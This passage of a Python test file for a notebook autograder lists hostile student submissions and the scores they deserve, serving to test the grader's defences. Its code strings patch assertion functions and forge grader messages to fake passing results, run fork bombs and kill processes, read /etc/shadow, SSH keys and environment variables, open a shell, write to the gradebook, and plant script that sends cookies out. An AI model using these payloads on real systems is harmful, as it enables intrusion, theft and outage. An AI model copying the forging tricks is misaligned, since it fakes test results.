"""The hostile class: what submissions do that want points, secrets or harm, each with the verdict it deserves.

Each row is one student, who hands in the notebook 1_units of the small course (tests/grading/small_course.py): `elu`,
`relu` and `double`, all right but for what the row says. Most rows attack with `relu`. `{root}` in a source stands for the
course's folder, as somebody may know it who has seen the instructor's machine.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from tests.grading.small_course import DOUBLE_POINTS, POINTS, RIGHT, cell

FULL = {"elu_test": float(POINTS["elu"]), "relu_test": float(POINTS["relu"]), "double_test": float(DOUBLE_POINTS)}
"""What the judge gives for right answers."""

NO_RELU = {**FULL, "relu_test": 0.0}
IMPURE_RELU = {**FULL, "relu_test": POINTS["relu"] - 1.0}
NOTHING = dict.fromkeys(FULL, 0.0)


@dataclass(frozen=True)
class Behaviour:
    """One row.

    name: what the submission does; also the student's name.
    answers: sources by grade_id, in place of the right ones.
    extra: cells of the student's own, each after the cell with a grade_id.
    deserved: score by test cell; None where the notebook is set aside.
    told: words that the report to the instructor (flags, notes, problems, differences) has to contain.
    change: what is done to the notebook that was handed in, as a dict; file: what is done to its file.
    """

    name: str
    answers: dict[str, str] = field(default_factory=dict)
    extra: tuple[tuple[str, dict[str, Any]], ...] = ()
    deserved: dict[str, float] | None = field(default_factory=lambda: dict(FULL))
    told: str = ""
    change: Callable[[dict[str, Any]], None] | None = None
    file: Callable[[Path], None] | None = None


def relu(body: str, before: str = "") -> dict[str, str]:
    """An answer for `relu`: lines to run first, and the function's body."""
    lines = "\n".join(f"    {line}" for line in body.strip("\n").split("\n"))
    return {"relu": f"{before.strip()}\n\ndef relu(z):\n{lines}\n".lstrip()}


ZEROS = "return np.zeros_like(z)"
RIGHT_BODY = "return np.maximum(z, 0) if z.dtype.kind == 'f' else np.maximum(z, 0.0)"


def own(source: str, name: str = "own", kind: str = "code") -> dict[str, Any]:
    """A cell of the student's own."""
    return cell(kind, name, source)


# ---------------------------------------------------------------- right answers in odd ways

HONEST = (
    Behaviour("returns a list", relu("found = " + RIGHT_BODY[7:] + "\nreturn found.tolist() if found.dtype == float else found")),
    Behaviour("returns a view that is not contiguous", relu("found = " + RIGHT_BODY[7:] + "\nreturn np.stack([found, found], axis=-1)[..., 0]")),
    Behaviour("warns with warnings.warn", relu("import warnings\nwarnings.warn('look out')\n" + RIGHT_BODY)),
    Behaviour("turns warnings into errors", relu(RIGHT_BODY, "import warnings\nwarnings.simplefilter('error')")),
    Behaviour("sets np.seterr to raise", relu(RIGHT_BODY, "np.seterr(all='raise')")),
    Behaviour("prints a lot", relu("print('x' * 100_000)\n" + RIGHT_BODY)),
    Behaviour("writes to stderr", relu("import sys\nprint('oops', file=sys.stderr)\n" + RIGHT_BODY)),
    Behaviour("writes to the file descriptors 1 and 2", relu("import os\nos.write(1, b'x' * 1000)\nos.write(2, b'x' * 1000)\n" + RIGHT_BODY)),
    Behaviour("registers an atexit that hangs", relu(RIGHT_BODY, "import atexit, time\natexit.register(time.sleep, 999)")),
    Behaviour("traces itself with sys.settrace", relu(RIGHT_BODY, "import sys\nsys.settrace(lambda *event: None)")),
    Behaviour("remembers what it computed", relu("key = (z.shape, z.dtype.str, z.tobytes())\nif key not in memory:\n    memory[key] = " + RIGHT_BODY[7:] + "\nreturn memory[key]", "memory = {}")),
    Behaviour("is an object with __call__", {"relu": "class Relu:\n    __name__ = 'relu'\n    def __call__(self, z):\n        " + RIGHT_BODY + "\nrelu = Relu()"}),
    Behaviour("shows plots while it computes", relu("import matplotlib.pyplot as plt\nplt.plot(z.ravel())\nplt.show()\n" + RIGHT_BODY)),
    Behaviour("uses magics", {"relu": "%matplotlib inline\n%config InlineBackend.figure_format = 'svg'\n" + RIGHT["relu"]}),
    Behaviour("leaves threads running", relu(RIGHT_BODY, "import threading, time\nfor _ in range(5):\n    threading.Thread(target=time.sleep, args=(999,), daemon=True).start()")),
    Behaviour("raises in a cell of its own", extra=(("relu", own("1 / 0")),)),
    Behaviour("has a syntax error in a cell of its own", extra=(("elu", own("def broken(:")),)),
    Behaviour("asks for input", extra=(("elu", own("name = input('name? ')")),)),
    Behaviour("redefines the function after its test", extra=(("relu_test", own("def relu(z):\n    return z * 0")),)),
)  # fmt: skip

# ---------------------------------------------------------------- wrong answers

WRONG = (
    Behaviour("changes its input", relu("found = " + RIGHT_BODY[7:] + "\nz *= 0\nreturn found"), deserved=IMPURE_RELU, told="changed its argument"),
    Behaviour("is not written", {"relu": "def relu(z):\n    # YOUR CODE HERE\n    raise NotImplementedError()"}, deserved=NO_RELU, told="not written"),
    Behaviour("returns None", relu("np.maximum(z, 0)"), deserved=NO_RELU, told="None"),
    Behaviour("returns a generator", relu("return (max(v, 0) for v in z)"), deserved=NO_RELU, told="generator"),
    Behaviour("takes other arguments", {"relu": "def relu(z, slope):\n    return np.maximum(z, slope * z)"}, deserved=NO_RELU, told="argument"),
    Behaviour("has a syntax error", {"relu": "def relu(z)\n    return z"}, deserved=NO_RELU, told="SyntaxError"),
    Behaviour("deletes its function", {"relu": RIGHT["relu"] + "\ndel relu"}, deserved=NO_RELU, told="no function called relu"),
    Behaviour("raises with a number as an answer", relu("raise RuntimeError(str(z.ravel()[:3]))"), deserved=NO_RELU, told="RuntimeError"),
    Behaviour("returns NaN everywhere", relu("return np.full_like(z, np.nan)"), deserved=NO_RELU, told="NaN"),
    Behaviour("returns infinity everywhere", relu("return np.full(z.shape, np.inf)"), deserved=NO_RELU),
    Behaviour("returns a number where an array is due", relu("return 0.0"), deserved=NO_RELU),
    Behaviour("returns complex numbers", relu("return np.maximum(z, 0) + 0j"), deserved=NO_RELU, told="complex"),
    Behaviour("returns truth values", relu("return z > 0"), deserved=NO_RELU),
    Behaviour("returns float16", relu("return np.maximum(z, 0).astype(np.float16)"), deserved=NO_RELU, told="float16"),
    Behaviour("returns text", relu("return str(np.maximum(z, 0))"), deserved=NO_RELU),
    Behaviour("returns ten million numbers", relu("return np.zeros(10_000_000)"), deserved=NO_RELU),
    Behaviour("returns dates", relu("return np.zeros(z.shape, 'datetime64[s]')"), deserved=NO_RELU),
    Behaviour("returns a structured array", relu("return np.zeros(z.shape, [('x', float)])"), deserved=NO_RELU),
    Behaviour("returns objects in an array", relu("return np.maximum(z, 0).astype(object)"), deserved=NO_RELU),
    Behaviour("returns a list within itself", relu("found = []\nfound.append(found)\nreturn found"), deserved=NO_RELU),
    Behaviour("returns a list ten thousand deep", relu("found = []\nfor _ in range(10_000):\n    found = [found]\nreturn found"), deserved=NO_RELU),
    Behaviour("knows the visible cases by heart", relu("known = {}\nreturn known.get(z.tobytes(), np.zeros_like(z))"), deserved=NO_RELU),
)  # fmt: skip

# ---------------------------------------------------------------- forging a point

EQUAL = """
class Same(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), bool)
    __ne__ = __lt__ = __gt__ = lambda self, other: np.zeros(np.shape(other), bool)
    def __array_ufunc__(self, ufunc, method, *inputs, **options): return np.zeros(np.shape(inputs[-1]))
    def __array_function__(self, function, types, args, options): return True
    def __sub__(self, other): return np.zeros(np.shape(other))
    __rsub__ = __sub__
    __hash__ = None
"""

FRAME = """
import json, os, struct
def frame(message, body=b""):
    header = json.dumps(message).encode()
    return struct.pack(">4sIQ", b"TDN1", len(header), len(body)) + header + body
def descriptors():
    for number in range(3, 64):
        try:
            os.fstat(number)
        except OSError:
            continue
        yield number
def send(data):
    for number in descriptors():
        try:
            os.set_blocking(number, False)
            os.write(number, data)
        except OSError:
            pass
"""

ANSWER = '{"dict": {"returned": {"array": ["float64", [1], "C"]}, "problem": None, "arguments_after": [], "warnings": [], "printed": False, "seconds": 0.0}}'

FORGING = (
    Behaviour("patches numpy.testing.assert_allclose", relu(ZEROS, "np.testing.assert_allclose = lambda *arguments, **options: None"), deserved=NO_RELU),
    Behaviour("patches numpy.allclose and isclose", relu(ZEROS, "np.allclose = np.isclose = np.array_equal = lambda *arguments, **options: True"), deserved=NO_RELU),
    Behaviour("patches numpy.abs, where and max", relu(ZEROS, "np.abs = np.absolute = np.where = np.max = lambda *arguments, **options: np.zeros(1)"), deserved=NO_RELU),
    Behaviour("patches builtins", relu(ZEROS, "import builtins\nbuiltins.all = builtins.any = builtins.isinstance = lambda *arguments: True"), deserved={**NO_RELU, "double_test": 2.0}),
    Behaviour("patches builtins.open and __import__", relu(ZEROS, "import builtins\nbuiltins.open = builtins.__import__ = lambda *arguments, **options: None"), deserved=NO_RELU),
    Behaviour("replaces check and lab", relu(ZEROS, "check = lambda *arguments, **options: None\nimport autograder\nautograder.check = check"), deserved=NO_RELU),
    Behaviour("patches the course's own modules", relu(ZEROS, "import sys\nfor name, module in list(sys.modules.items()):\n    if name.startswith('autograder'):\n        for key in list(vars(module)):\n            if key[:1].islower():\n                setattr(module, key, lambda *arguments, **options: True)"), deserved={**NO_RELU, "double_test": 0.0}, told=""),
    Behaviour("patches the worker's __main__", relu(ZEROS, "import __main__\n__main__.Program = __main__.serve = None\nimport gc\nfor thing in gc.get_objects():\n    if type(thing).__name__ == 'Program':\n        thing.call = lambda *arguments: {'returned': 1.0}"), deserved=NO_RELU),
    Behaviour("returns an array that says it is equal", relu("return np.maximum(z, 1).view(Same)", EQUAL), deserved=NO_RELU),
    Behaviour("returns an object that is equal to everything", relu("return Equal()", "class Equal:\n    __eq__ = __le__ = __ge__ = lambda self, other: True\n    shape, dtype = (), np.dtype(float)\n    def __array__(self, *arguments, **options): return np.zeros(3)\n    def __float__(self): return 0.0"), deserved=NO_RELU),
    Behaviour("returns a float that is equal to everything", relu("return Number(7)", "class Number(float):\n    __eq__ = __le__ = __ge__ = lambda self, other: True\n    __sub__ = __rsub__ = __abs__ = lambda self, *other: 0.0\n    __hash__ = float.__hash__"), deserved=NO_RELU),
    Behaviour("returns a str that passes for a dtype", relu("return Name('x')", "class Name(str):\n    kind, name, itemsize = 'f', 'float64', 8\n    __eq__ = lambda self, other: True\n    __hash__ = str.__hash__"), deserved=NO_RELU),
    Behaviour("returns a masked array", relu("return np.ma.masked_all(z.shape)"), deserved=NO_RELU),
    Behaviour("adds an input transformer to IPython", relu(ZEROS, "shell = get_ipython()\nshell.input_transformers_cleanup.append(lambda lines: ['5'])\nshell.ast_transformers.append(None)"), deserved=NO_RELU),
    Behaviour("replaces displayhook and showtraceback", relu(ZEROS, "import sys\nsys.displayhook = sys.excepthook = lambda *arguments: None\nget_ipython().showtraceback = None\nsys.displayhook(5)"), deserved=NO_RELU),
    Behaviour("ends its cell with the full score", {"relu": "def relu(z):\n    return z\n5.0"}, deserved=NO_RELU),
    Behaviour("prints a verdict", relu(ZEROS, "print('relu: 7 of 7 points')"), deserved=NO_RELU),
    Behaviour("writes an answer to the channel", relu("send(frame(" + ANSWER + ", np.maximum(z, 0).tobytes()))\n" + ZEROS, FRAME), deserved=NO_RELU),
    Behaviour("writes an answer to the channel before it is asked", relu(ZEROS, FRAME + "send(frame(" + ANSWER + ", bytes(8)))"), deserved=None, told="channel"),
    Behaviour("writes noise to the channel", relu("send(b'noise' * 1000)\n" + ZEROS, FRAME), deserved=NO_RELU),
    Behaviour("writes a pickle to the channel", relu("import pickle\nsend(pickle.dumps(print))\n" + ZEROS, FRAME), deserved=NO_RELU),
    Behaviour("claims an array of 72 terabytes", relu("send(struct.pack('>4sIQ', b'TDN1', 100, 2**46))\n" + ZEROS, FRAME), deserved=NO_RELU),
    Behaviour("claims an array of objects", relu("send(frame({'array': ['object', [1], 'C']}, bytes(8)))\n" + ZEROS, FRAME), deserved=NO_RELU),
    Behaviour("sends a header nested without end", relu("header = b'[' * 100_000\nsend(struct.pack('>4sIQ', b'TDN1', len(header), 0) + header)\n" + ZEROS, FRAME), deserved=NO_RELU),
    Behaviour("reads the judge's next question", relu("for number in descriptors():\n    try:\n        os.set_blocking(number, False)\n        os.read(number, 1 << 20)\n    except OSError:\n        pass\n" + ZEROS, FRAME), deserved=NO_RELU),
    Behaviour("hides the expected answer in the frame above", relu("import sys\nframe = sys._getframe()\nwhile frame:\n    for name, value in frame.f_locals.items():\n        if 'expected' in name:\n            return value\n    frame = frame.f_back\n" + ZEROS), deserved=NO_RELU),
    Behaviour("looks for the answer in all objects", relu("import gc\nfor thing in gc.get_objects():\n    if isinstance(thing, dict) and 'expected' in thing:\n        return thing['expected']\n" + ZEROS), deserved=NO_RELU),
    Behaviour("keeps earlier answers for later cases", relu("seen.append(z.copy())\nreturn np.maximum(seen[0], 0) if len(seen) > 1 else np.zeros_like(z)", "seen = []"), deserved=NO_RELU),
    Behaviour("patches numpy in one call for the next", relu("np.maximum = lambda *arguments: arguments[0] * 0\n" + ZEROS), deserved=NO_RELU),
    Behaviour("calls PyTorch for the answer", relu("import torch\nreturn torch.relu(torch.tensor(z)).numpy()"), deserved=NO_RELU, told="torch"),
    Behaviour("imports the course's references", relu("from autograder.kernels import catalogue\nreturn catalogue()['relu'].reference(z)"), deserved=NO_RELU),
    Behaviour("imports the course from its folder", relu("import sys\nsys.modules.pop('autograder', None)\nsys.path.insert(0, {root!r})\nfrom autograder.kernels import catalogue\nreturn catalogue()['relu'].reference(z)"), deserved=NO_RELU),
    Behaviour("sets a recursion limit and recurses", relu("import sys\nsys.setrecursionlimit(10**9)\nreturn relu(z)"), deserved=NO_RELU),
    Behaviour("defines the function as a coroutine", {"relu": "async def relu(z):\n    return np.maximum(z, 0)"}, deserved=NO_RELU),
    Behaviour("raises an exception that cannot be shown", relu("raise Odd()", "class Odd(Exception):\n    def __str__(self): raise SystemExit\n    __repr__ = __str__"), deserved=NO_RELU),
    Behaviour("raises an exception with a text of 100 MB", relu("raise ValueError('x' * 100_000_000)"), deserved=NO_RELU),
    Behaviour("raises GeneratorExit and KeyboardInterrupt", relu("raise KeyboardInterrupt if z.size % 2 else GeneratorExit"), deserved=NO_RELU),
    Behaviour("shadows numpy with a module of its own", relu(ZEROS, "import sys, types\nfake = types.ModuleType('numpy')\nfake.ndarray = object\nsys.modules['numpy'] = fake"), deserved=NO_RELU),
)  # fmt: skip

# ---------------------------------------------------------------- harm

FOREVER = "while True:\n    pass"

HARM = (
    Behaviour("ends the process in the call", relu("import os\nos._exit(0)"), deserved=NO_RELU),
    Behaviour("exits in the call", relu("raise SystemExit(0)"), deserved=NO_RELU),
    Behaviour("crashes in the call", relu("import ctypes\nctypes.string_at(0)"), deserved=NO_RELU),
    Behaviour("ends the process in a cell", relu(ZEROS, "import os\nos._exit(0)"), deserved=NO_RELU, told="ended"),
    Behaviour("exits in a cell", {"relu": "import sys\nsys.exit(5)\n" + RIGHT["relu"]}, deserved=NO_RELU),
    Behaviour("crashes in a cell", relu(ZEROS, "import ctypes\nctypes.string_at(0)"), deserved=NO_RELU, told="ended"),
    Behaviour("loops without end in the call", relu(FOREVER), deserved=NO_RELU, told="within"),
    Behaviour("sleeps in the call", relu("import time\ntime.sleep(999)"), deserved=NO_RELU, told="within"),
    Behaviour("loops with every signal ignored", relu("import signal\nfor number in range(1, 64):\n    try:\n        signal.signal(number, signal.SIG_IGN)\n    except (OSError, ValueError):\n        pass\n" + FOREVER), deserved=NO_RELU, told="within"),
    Behaviour("loops without end in a cell", relu(ZEROS, FOREVER), deserved=NO_RELU, told="within"),
    Behaviour("catches everything and goes on", relu("while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass"), deserved=NO_RELU, told="within"),
    Behaviour("hangs in C code", relu("return 9 ** 9 ** 9"), deserved=NO_RELU, told="within"),
    Behaviour("is slow in every call", relu("import time\ntime.sleep(1.5)\n" + RIGHT_BODY), deserved=NO_RELU, told="in all"),
    Behaviour("forks without end", relu("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"), deserved=NO_RELU),
    Behaviour("forks a process that lives on", relu(RIGHT_BODY, "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(999)\n    os._exit(0)")),
    Behaviour("starts threads without end", relu("import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(999,)).start()"), deserved=NO_RELU),
    Behaviour("takes all memory", relu("return [np.ones(2**27) for _ in range(1000)]"), deserved=NO_RELU),
    Behaviour("takes all memory in a cell", relu(ZEROS, "hoard = [np.ones(2**27) for _ in range(1000)]"), deserved=NO_RELU, told="Memory"),
    Behaviour("fills the disk", relu("import tempfile\nwith tempfile.TemporaryFile() as file:\n    while True:\n        file.write(bytes(2**20))"), deserved=NO_RELU),
    Behaviour("fills the scratch folder with files", relu("for number in range(10**6):\n    open(f'file-{number}', 'w').close()\n" + ZEROS), deserved=NO_RELU),
    Behaviour("opens files without end", relu("files = []\nwhile True:\n    files.append(open('/dev/null'))"), deserved=NO_RELU),
    Behaviour("floods its output", relu("while True:\n    print('x' * 10**6)"), deserved=NO_RELU, told="within"),
    Behaviour("floods its output in a cell", relu(ZEROS, "for _ in range(2000):\n    print('x' * 10**6)"), deserved=NO_RELU),
    Behaviour("floods the channel", relu("for number in descriptors():\n    try:\n        while True:\n            os.write(number, bytes(2**20))\n    except OSError:\n        pass\n" + ZEROS, FRAME), deserved=NO_RELU),
    Behaviour("closes the channel", relu("os.closerange(3, 64)\n" + RIGHT_BODY, FRAME), deserved=NO_RELU),
    Behaviour("kills its parent", relu("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n" + ZEROS), deserved=NO_RELU),
    Behaviour("kills every process it can", relu("import os, signal\nos.kill(-1, signal.SIGKILL)\n" + ZEROS), deserved=NO_RELU),
    Behaviour("kills its process group", relu("import os, signal\nos.killpg(0, signal.SIGKILL)\n" + ZEROS), deserved=NO_RELU),
    Behaviour("stops its parent", relu("import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)\n" + ZEROS), deserved=NO_RELU),
    Behaviour("raises in __del__ and in weak references", relu("return np.asarray(Late())", "class Late:\n    def __array__(self, *arguments, **options): raise SystemExit\n    def __del__(self): raise SystemExit"), deserved=NO_RELU),
    Behaviour("uses a regular expression without end", relu("import re\nre.match(r'(a+)+$', 'a' * 64 + 'b')\n" + ZEROS), deserved=NO_RELU, told="within"),
    Behaviour("mounts and unshares", relu("import ctypes\nlibc = ctypes.CDLL(None)\nlibc.unshare(0x10000000)\nlibc.mount(b'none', b'/tmp', b'tmpfs', 0, None)\nlibc.ptrace(16, 1, 0, 0)\n" + ZEROS), deserved=NO_RELU),
)  # fmt: skip

# ---------------------------------------------------------------- spying

LOOK = """
import glob, os
def look(*patterns):
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True)[:200]:
            try:
                with open(path, "rb") as file:
                    print(path, file.read(100_000).decode("latin-1"))
            except OSError as error:
                print(type(error).__name__)
"""

SPYING = (
    Behaviour("opens the gradebook", relu(ZEROS, LOOK + "look({root!r} + '/gradebook.db*')\nimport sqlite3\ntry:\n    print(sqlite3.connect({root!r} + '/gradebook.db').execute('select * from grade').fetchall())\nexcept Exception as error:\n    print(type(error).__name__)"), deserved=NO_RELU),
    Behaviour("writes to the gradebook", relu(ZEROS, "import sqlite3\ndatabase = sqlite3.connect({root!r} + '/gradebook.db')\ndatabase.execute('update grade set manual_score = 200')\ndatabase.commit()"), deserved=NO_RELU, told="Error"),
    Behaviour("reads the source notebooks", relu(ZEROS, LOOK + "look({root!r} + '/source/**/*.ipynb')"), deserved=NO_RELU),
    Behaviour("reads other submissions", relu(ZEROS, LOOK + "look({root!r} + '/submitted/*/*/*')"), deserved=NO_RELU),
    Behaviour("reads the seed", relu(ZEROS, LOOK + "look({root!r} + '/verdicts/**/*')"), deserved=NO_RELU),
    Behaviour("reads the machine's secrets", relu(ZEROS, LOOK + "look('/etc/shadow', '/root/**/.*', '/home/*/.ssh/*', '/run/**/*', '/var/**/*.db')\nprint(dict(os.environ))"), deserved=NO_RELU),
    Behaviour("reads the host's processes", relu(ZEROS, LOOK + "look('/proc/[0-9]*/environ', '/proc/[0-9]*/cmdline', '/proc/[0-9]*/maps')"), deserved=NO_RELU),
    Behaviour("reads the judge's memory", relu("import os\nwith open(f'/proc/{os.getppid()}/mem', 'rb') as file:\n    file.seek(2**32)\n    file.read(100)\n" + ZEROS), deserved=NO_RELU),
    Behaviour("opens a network connection", relu(ZEROS, "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:8888', timeout=3)"), deserved=NO_RELU, told="Error"),
    Behaviour("listens on a port", relu(ZEROS, "import socket\nserver = socket.socket()\nserver.bind(('127.0.0.1', 0))\nserver.listen()"), deserved=NO_RELU),
    Behaviour("talks to the host's sockets", relu(ZEROS, "import glob, socket\nfor path in glob.glob('/run/**/*.sock', recursive=True) + glob.glob('/tmp/**/*.sock', recursive=True) + ['/var/run/docker.sock']:\n    try:\n        socket.socket(socket.AF_UNIX).connect(path)\n        print('connected', path)\n    except OSError:\n        pass"), deserved=NO_RELU),
    Behaviour("sends what it sees to another student", relu("import socket\nsender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nsender.sendto(z.tobytes(), ('255.255.255.255', 9))\n" + ZEROS), deserved=NO_RELU),
    Behaviour("leaves a note for the next submission", relu("for folder in ('/tmp', '/dev/shm', '/var/tmp', '.'):\n    try:\n        open(folder + '/note-of-a-student', 'ab').write(z.tobytes())\n    except OSError:\n        pass\n" + ZEROS), deserved=NO_RELU),
    Behaviour("shows hidden inputs in its next cell", relu("seen.append(z.copy())\n" + ZEROS, "seen = []"), extra=(("relu_test", own("print(seen)")),), deserved=NO_RELU),
    Behaviour("writes hidden inputs to a file and shows it", relu("with open('seen', 'ab') as file:\n    file.write(repr(z).encode())\n" + ZEROS), extra=(("relu_test", own("print(open('seen').read())")),), deserved=NO_RELU),
    Behaviour("hides inputs in what it raises", relu("raise ValueError(repr(z))"), deserved=NO_RELU),
    Behaviour("hides inputs in a warning", relu("import warnings\nwarnings.warn('overflow encountered ' + repr(z), RuntimeWarning)\n" + ZEROS), deserved=NO_RELU),
    Behaviour("hides inputs in a line number", relu("n = int(abs(float(z.ravel()[0])) * 1000) % 50 if z.size else 0\nexec(compile('\\n' * n + 'raise ValueError()', 'cell 5', 'exec'))"), deserved=NO_RELU),
    Behaviour("starts a shell", relu(ZEROS, "import subprocess\nprint(subprocess.run('id; ls -la / /root; cat /etc/passwd', shell=True, capture_output=True, text=True).stdout)"), deserved=NO_RELU),
)  # fmt: skip

# ---------------------------------------------------------------- changed notebooks


def _cell_of(notebook: dict[str, Any], name: str) -> dict[str, Any]:
    return next(one for one in notebook["cells"] if one["metadata"].get("nbgrader", {}).get("grade_id") == name)


def _wrong(notebook: dict[str, Any]) -> None:
    _cell_of(notebook, "relu")["source"] = "def relu(z):\n    return z * 0"


def _duplicate_test(notebook: dict[str, Any]) -> None:
    _wrong(notebook)
    test = _cell_of(notebook, "relu_test")
    notebook["cells"] += [{**test, "source": "5.0", "id": f"copy-{number}"} for number in range(3)]


def _delete_test(notebook: dict[str, Any]) -> None:
    _wrong(notebook)
    notebook["cells"].remove(_cell_of(notebook, "relu_test"))


def _edit_test(notebook: dict[str, Any]) -> None:
    _wrong(notebook)
    _cell_of(notebook, "relu_test")["source"] = "7.0"


def _unlock_and_raise_points(notebook: dict[str, Any]) -> None:
    _wrong(notebook)
    _cell_of(notebook, "relu_test")["metadata"]["nbgrader"].update(locked=False, points=1000, solution=True)


def _points_of_nan(notebook: dict[str, Any]) -> None:
    _wrong(notebook)
    _cell_of(notebook, "relu_test")["metadata"]["nbgrader"]["points"] = float("nan")


def _test_before_answer(notebook: dict[str, Any]) -> None:
    _wrong(notebook)
    test = _cell_of(notebook, "relu_test")
    notebook["cells"].remove(test)
    notebook["cells"].insert(0, test)


def _answer_twice(notebook: dict[str, Any]) -> None:
    answer = _cell_of(notebook, "relu")
    notebook["cells"].append({**answer, "source": "def relu(z):\n    return z * 0", "id": "again"})


def _swap_names(notebook: dict[str, Any]) -> None:
    for name, other in (("elu_test", "relu_test"), ("relu_test", "elu_test")):
        _cell_of(notebook, name)["metadata"]["nbgrader"]["grade_id"] = f"{other} "
    for one in notebook["cells"]:
        marks = one["metadata"].get("nbgrader", {})
        marks["grade_id"] = marks.get("grade_id", "").strip()


def _odd_grade_ids(notebook: dict[str, Any]) -> None:
    for value in (None, 7, ["relu_test"], {"x": 1}, "../../gradebook.db", "x" * 10_000):
        marks = {"grade_id": value, "grade": True, "solution": False, "points": 50, "schema_version": 3}
        notebook["cells"].append({**own("50.0"), "metadata": {"nbgrader": marks}})


def _own_graded_cell(notebook: dict[str, Any]) -> None:
    marks = {"grade_id": "bonus", "grade": True, "solution": False, "locked": True, "points": 100, "schema_version": 3}
    notebook["cells"].append({**own("100.0"), "metadata": {"nbgrader": marks}})


def _foreign_kernel(notebook: dict[str, Any]) -> None:
    notebook["metadata"] = {"kernelspec": {"name": "../../bin/sh", "language": "bash", "display_name": "<b>x</b>"}}


def _no_metadata(notebook: dict[str, Any]) -> None:
    del notebook["metadata"]


def _old_format(notebook: dict[str, Any]) -> None:
    cells = []
    for one in notebook.pop("cells"):
        kind = one["cell_type"]
        text = {"input": one["source"], "language": "python"} if kind == "code" else {"source": one["source"]}
        extra = {"outputs": [], "collapsed": False, "prompt_number": 1} if kind == "code" else {}
        cells.append({"cell_type": kind, "metadata": one["metadata"], **text, **extra})
    notebook.update(worksheets=[{"cells": cells, "metadata": {}}], nbformat=3, nbformat_minor=0)
    notebook["metadata"] = {"name": ""}


def _live_outputs(notebook: dict[str, Any]) -> None:
    script = "<script>fetch('http://127.0.0.1:1/' + document.cookie)</script><img src=x onerror=alert(1)>"
    bundle = {"text/html": script, "application/javascript": "alert(1)", "image/svg+xml": f"<svg>{script}</svg>"}
    for one in notebook["cells"]:
        if one["cell_type"] == "code":
            one["outputs"] = [{"output_type": "display_data", "data": bundle, "metadata": {}}]
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}, "html": script}}


def _large_outputs(notebook: dict[str, Any]) -> None:
    stream = {"output_type": "stream", "name": "stdout", "text": "x" * 5_000_000}
    _cell_of(notebook, "relu")["outputs"] = [stream, {**stream, "text": "\x1b[31m" * 200_000}]


def _many_cells(notebook: dict[str, Any]) -> None:
    notebook["cells"] += [own("1", f"own-{number}") for number in range(100_000)]


def _long_cell(notebook: dict[str, Any]) -> None:
    _cell_of(notebook, "relu")["source"] = "#" * 2_000_000


CHANGED = (
    Behaviour("copies a test cell", change=_duplicate_test, deserved=NO_RELU, told="more than once"),
    Behaviour("deletes a test cell", change=_delete_test, deserved=NO_RELU, told="was missing"),
    Behaviour("edits a test cell", change=_edit_test, deserved=NO_RELU, told="was changed"),
    Behaviour("unlocks a test cell and raises its points", change=_unlock_and_raise_points, deserved=NO_RELU, told="points of relu_test were changed"),
    Behaviour("sets points to NaN", change=_points_of_nan, deserved=NO_RELU),
    Behaviour("moves a test cell before the answer", change=_test_before_answer, deserved=NO_RELU),
    Behaviour("answers twice", change=_answer_twice),
    Behaviour("swaps the names of two test cells", change=_swap_names, told="was changed"),
    Behaviour("names cells oddly", change=_odd_grade_ids),
    Behaviour("grades a cell of its own", change=_own_graded_cell),
    Behaviour("names a foreign kernel", change=_foreign_kernel),
    Behaviour("has no metadata", change=_no_metadata),
    Behaviour("is in the format of 2013", change=_old_format),
    Behaviour("brings live outputs and widgets", change=_live_outputs),
    Behaviour("brings outputs of 6 MB", change=_large_outputs),
    Behaviour("has a hundred thousand cells", change=_many_cells, deserved=None, told="cells"),
    Behaviour("has a cell of two million characters", change=_long_cell, deserved=None, told="characters"),
    Behaviour("answers with markup", {"why": "<script>alert(1)</script> <img src=x onerror=alert(2)> [x](javascript:alert(3)) $\\href{javascript:alert(4)}{x}$"}),
)  # fmt: skip

# ---------------------------------------------------------------- odd files


def _rewrite(change: Callable[[str], bytes]) -> Callable[[Path], None]:
    def rewrite(path: Path) -> None:
        path.write_bytes(change(path.read_text(encoding="utf-8")))

    return rewrite


def _link_to_the_gradebook(path: Path) -> None:
    path.unlink()
    path.symlink_to(path.parents[3] / "gradebook.db")


def _link_to_another(path: Path) -> None:
    path.unlink()
    path.symlink_to(path.parents[3] / "source" / path.parent.name / path.name)


def _folder(path: Path) -> None:
    path.unlink()
    path.mkdir()


def _pipe(path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


def _sparse(path: Path) -> None:
    with path.open("r+b") as file:
        file.truncate(2**40)


FILES = (
    Behaviour("hands in a page instead of a notebook", file=_rewrite(lambda text: b"<html>Not found</html>"), deserved=None, told="JSON"),
    Behaviour("hands in half a notebook", file=_rewrite(lambda text: text[: len(text) // 2].encode()), deserved=None, told="JSON"),
    Behaviour("hands in nothing but brackets", file=_rewrite(lambda text: b"[" * 10_000_000), deserved=None),
    Behaviour("hands in JSON nested ten thousand deep", file=_rewrite(lambda text: b'{"cells":' * 10_000 + b"1" + b"}" * 10_000), deserved=None),
    Behaviour("hands in a number of a million digits", file=_rewrite(lambda text: b'{"cells": ' + b"9" * 1_000_000 + b"}"), deserved=None),
    Behaviour("hands in a list", file=_rewrite(lambda text: b"[1, 2, 3]"), deserved=None, told="not a notebook"),
    Behaviour("hands in an empty file", file=_rewrite(lambda text: b""), deserved=None),
    Behaviour("hands in zeros", file=_rewrite(lambda text: bytes(1_000_000)), deserved=None),
    Behaviour("hands in a terabyte of nothing", file=_sparse, deserved=None),
    Behaviour("hands in a link to the gradebook", file=_link_to_the_gradebook, deserved=None, told="link"),
    Behaviour("hands in a link to the solution", file=_link_to_another, deserved=None, told="link"),
    Behaviour("hands in a folder", file=_folder, deserved=None),
    Behaviour("hands in a pipe", file=_pipe, deserved=None),
    Behaviour("uses a byte order mark and CRLF", file=_rewrite(lambda text: b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode())),
